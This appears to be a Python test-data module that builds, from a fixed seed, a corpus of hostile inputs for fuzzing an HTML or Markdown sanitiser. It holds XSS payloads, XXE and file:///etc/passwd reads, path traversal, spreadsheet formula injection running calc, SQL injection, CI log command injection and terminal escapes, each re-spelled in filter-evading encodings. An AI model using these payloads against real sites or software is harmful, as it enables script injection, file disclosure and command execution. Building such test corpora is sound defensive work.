"""Hostile words: vectors in every spelling and surrounding, made from a fixed seed.

The vectors are our own: what runs or loads in HTML, what leads elsewhere in Markdown,
what hides in Unicode, and what is quadratic to read. Each is spelled in several ways
and put into several surroundings.
"""

from collections.abc import Callable, Iterator, Mapping
from html import escape
from random import Random
from urllib.parse import quote

SEED = 20261122

RUN = "alert(1)"
EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onbegin", "ontoggle"),
    *(
        "onanimationend",
        "onpointerenter",
        "onbeforetoggle",
        "oncontentvisibilityautostatechange",
    ),
)
HOLDERS = (
    *("img src=x", "svg", "body", "input autofocus", "details open", "video src=x"),
    *("audio src=x", "iframe", "object data=x", "marquee", "a tabindex=1", "math"),
    *("style", "select autofocus", "textarea autofocus", "div popover", "p", "x"),
)
TAGS = (
    "<script>{run}</script>",
    "<SCRIPT SRC=//a.example/x></SCRIPT>",
    "<script\n>{run}</script\n>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script x>{run}</script y>",
    "<svg><script>{run}</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'/></svg>",
    "<svg><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:{run} /></svg>",
    "<svg><set attributeName=onload to={run} /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></foreignObject></svg>",
    "<math><a xlink:href=javascript:{run}>x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<form action=javascript:{run}><input type=submit></form>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<base href=javascript:{run}//>",
    "<link rel=stylesheet href=//a.example/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<a rel=attachment href=file:///etc/passwd>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<style>@import '//a.example/x.css';</style>",
    "<style>*{{background:url(//a.example/x)}}</style>",
    "<p style='background:url(//a.example/x)'>x</p>",
    "<p style='width:expression({run})'>x</p>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<textarea><img title='</textarea><img src=x onerror={run}>'>",
    "<title></title><script>{run}</script>",
    "<plaintext>{run}",
    "<xmp><img alt='</xmp><img src=x onerror={run}>'></xmp>",
    "<!--><script>{run}</script-->",
    "<!-- --!><script>{run}</script>",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "</p></section></main><script>{run}</script>",
    "</style></title></textarea></script><script>{run}</script>",
    "'\"><script>{run}</script>",
    '" onmouseover="{run}',
    "' autofocus onfocus='{run}",
    "`><img src=x onerror={run}>",
    "<img src=`x` onerror={run}>",
    "<img src='x'onerror='{run}'>",
    "<img/src=x/onerror={run}>",
    "<\x00script>{run}</script>",
    "<scr\x00ipt>{run}</script>",
    "<\uff53cript>{run}</\uff53cript>",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    '<a href="java\tscript:{run}">x</a>',
    '<a href="&#106;avascript:{run}">x</a>',
    "<a href='\x01javascript:{run}'>x</a>",
)
MARKDOWN = (
    "[x](javascript:{run})",
    "[x]( javascript:{run})",
    "[x](<javascript:{run}>)",
    "[x](\njavascript:{run})",
    "[x](java\tscript:{run})",
    "[x](java&Tab;script:{run})",
    "[x](&#106;avascript:{run})",
    "[x](\\javascript:{run})",
    "[x](javascript&colon;{run})",
    "[x](JaVaScRiPt:{run} 'y')",
    "[x](vbscript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//a.example/x)",
    "[x](\\\\a.example\\x)",
    "[x](https:javascript:{run})",
    "[x](blob:x)",
    "[x](view-source:x)",
    '[x](https://a.example/" onclick="{run})',
    '[x](https://a.example "y" onclick={run})',
    '[x](#y" onclick="{run})',
    "[![x](javascript:{run})](javascript:{run})",
    "![x](https://a.example/x.png)",
    '![x](x" onerror="{run})',
    "![x](file:///etc/passwd)",
    "![x][y]\n\n[y]: javascript:{run}",
    "[x][y]\n\n[y]: javascript:{run}",
    "[y]: javascript:{run}\n\n[y]",
    "> [y]: javascript:{run}\n\n[y]",
    "- [y]: javascript:{run}\n\n[y]",
    "[y\nz]: javascript:{run}\n\n[y z]",
    "<javascript:{run}>",
    '<https://a.example/"onclick={run}>',
    "<a@a.example>",
    "[x]<javascript:{run}>",
    "[a](b)[c](javascript:{run})",
    "[x](javascript:{run}",
    "x](javascript:{run})",
    "[[x](javascript:{run})",
    "\\[x](javascript:{run})",
    "\\\\[x](javascript:{run})",
    "*[x*](javascript:{run})",
    "`[x`](javascript:{run})",
    "{{: onclick={run} }}",
    "x {{onclick={run}}}",
    "# x {{: onclick={run}}}",
    "[x](#y){{: onclick={run}}}",
    "*[x]: <script>{run}</script>\n\nx",
    "[^1]: {run}\n\n[^1]",
    "[^1]: <img src=x onerror={run}>",
    "[TOC]",
    "[x]{{.y onclick={run}}}",
    "```html\n<script>{run}</script>\n```",
    "~~~\n<script>{run}</script>\n~~~",
    "    <script>{run}</script>",
    "\t<script>{run}</script>",
    "``<script>{run}</script>``",
    "`<script>{run}</script>",
    "x | y\n--|--\n<script> | {run}",
    "| x |",
    "# <script>{run}</script> #",
    "<script>{run}</script>\n===",
    "$<script>{run}</script>$",
    "$$\\href{{javascript:{run}}}{{x}}$$",
    "<!-- part: evil -->",
    "<!-- /part -->",
    "<!-- figure: timeline -->",
    "<!-- note F001 -->",
    "<!-- fingerprint -->",
    '<a id="f001"></a>',
    "[@F001]",
    "[@F001](javascript:{run})",
    "[see @F001 <script>{run}</script>]",
    "[@{run}]",
    "\x02klzzwxh:0000\x03",
    "\x02wzxhzdk:0\x03",
    "\x0260\x03script\x0262\x03",
)
TEXTS = (
    *("#", "##", "x #", "x ##", "-", "--", "---", "***", "___", "+ x", "* x", "- x"),
    *(
        "1. x",
        "1) x",
        "1986. A good year",
        "=",
        "===",
        ">",
        "> x",
        ">x",
        ":",
        ": x",
        "::",
    ),
    *("!", "!x", "%", "% x", "%%", "|", "||", "a|b", "&", "&amp;", "&lt;script&gt;"),
    *("&#60;script&#62;", "&#x3c;", "&copy", "&notit;", "\\", "\\\\", "\\<", "\\&lt;"),
    *(
        "\\`",
        "*x*",
        "**x**",
        "_x_",
        "__x__",
        "~~x~~",
        "x^2^",
        "H~2~O",
        "x_y_z",
        "x*y*z",
    ),
    *(
        "x  \ny",
        "x\n\ny",
        "x\r\ny",
        "x\ry",
        "x\u2028y",
        "x\u2029y",
        "x\u0085y",
        "x\vy",
        "x\fy",
    ),
    *(
        "{{ 7*7 }}",
        "{% raw %}",
        "{# x #}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{view}}",
    ),
    *("\u202eevil", "x\u200by", "x\u200dy", "x\u2066y\u2069", "\ufeffx", "\U000e0041x"),
    *(
        "\u061cx",
        "\u180ex",
        "x\u00ady",
        "\ufff9x\ufffay\ufffb",
        "\ufffe",
        "\uffff",
        "\u2060",
    ),
    *(
        "\x1b[31mred",
        "\x1b]8;;file:///etc/passwd\x07x\x1b]8;;\x07",
        "\x07",
        "\x08",
        "\x7f",
    ),
    *(
        "\x9b31m",
        "\x00",
        "\r\x1b[2K",
        "::error file=x::y",
        "##[error]x",
        "%0A::error::x",
    ),
    *("::set-output name=x::y", "::add-mask::x", "::stop-commands::x", "\n::error::x"),
    *(
        "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(1)",
        "+1",
        "-1",
        '"; DROP TABLE x; --',
        "%s%n%x",
    ),
    *("../../etc/passwd", "..\\..\\x", "file:///etc/passwd", "CON", "NUL", "a" * 3000),
    *(
        "[" * 300,
        "![" * 300,
        "(" * 300,
        "*" * 300,
        "_" * 300,
        "`" * 300,
        "<" * 300,
        ">" * 300,
    ),
    *(
        "![[]()" * 150,
        "[^1]" * 150,
        "<a " * 150,
        "[x](" * 150,
        "\\" * 300,
        "&" * 300,
        " " * 300,
    ),
    *(
        "\n" * 300,
        "- " * 300,
        "> " * 300,
        "# " * 300,
        "|" * 300,
        "{" * 300,
        "**x" * 150,
        "a_" * 300,
    ),
    *(
        "www.a.example",
        "https://a.example/x?y=1&z=2",
        "a@a.example",
        "mailto:a@a.example",
    ),
    *(
        "z\u0301\u0301\u0301" * 50,
        "\u0001f600",
        "\U0001f468\u200d\U0001f469",
        "\u05d0\u05d1 x \u05d2",
    ),
)


def _entities(text: str) -> str:
    return "".join(f"&#{ord(one)};" for one in text)


def _hexes(text: str) -> str:
    return "".join(f"&#x{ord(one):x}" if one in "<>:(" else one for one in text)


def _swapped(text: str) -> str:
    return "".join(one.upper() if n % 2 else one.lower() for n, one in enumerate(text))


def _broken(text: str) -> str:
    return text.replace("script", "scr\u200bipt").replace("on", "o\u00adn")


SPELLINGS: Mapping[str, Callable[[str], str]] = {
    "plain": str,
    "upper": str.upper,
    "swapped": _swapped,
    "escaped": escape,
    "twice": lambda text: escape(escape(text)),
    "entities": _entities,
    "hex": _hexes,
    "percent": quote,
    "unicode": lambda text: text.encode("ascii", "backslashreplace").decode(),
    "tabs": lambda text: text.replace(":", "\t:").replace("=", "\n="),
    "zero": lambda text: text.replace("<", "<\x00").replace("script", "scr\x00ipt"),
    "hidden": _broken,
    "slashes": lambda text: text.replace(" ", "/"),
    "backslashes": lambda text: text.replace("<", "\\<").replace("[", "\\["),
}
SURROUNDINGS = (
    "{}",
    "words before {} and after",
    "{}\n\n{}",
    "- {}",
    "> {}",
    "| {} | x |",
    "**{}**",
    "“{}”",
    "{}{}",
    "x\n{}\ny",
    "# {}",
    "`{}`",
    "[{}](https://a.example)",
    "\\{}",
    "({})",
    "1. {}",
)


def vectors() -> Iterator[str]:
    """Yield every vector once, as it is."""
    for holder in HOLDERS:
        for event in EVENTS:
            yield f"<{holder} {event}={RUN}>"
    for vector in (*TAGS, *MARKDOWN):
        yield vector.format(run=RUN)
    yield from TEXTS


def hostile_words() -> tuple[str, ...]:
    """Return every vector in every spelling, each in a surrounding by chance."""
    chance = Random(SEED)  # noqa: S311 - test data
    found: dict[str, None] = {}
    for vector in vectors():
        for spelling in SPELLINGS.values():
            spelled = spelling(vector)
            found[spelled] = None
            around = chance.choice(SURROUNDINGS)
            found[around.replace("{}", spelled)] = None
    return tuple(found)
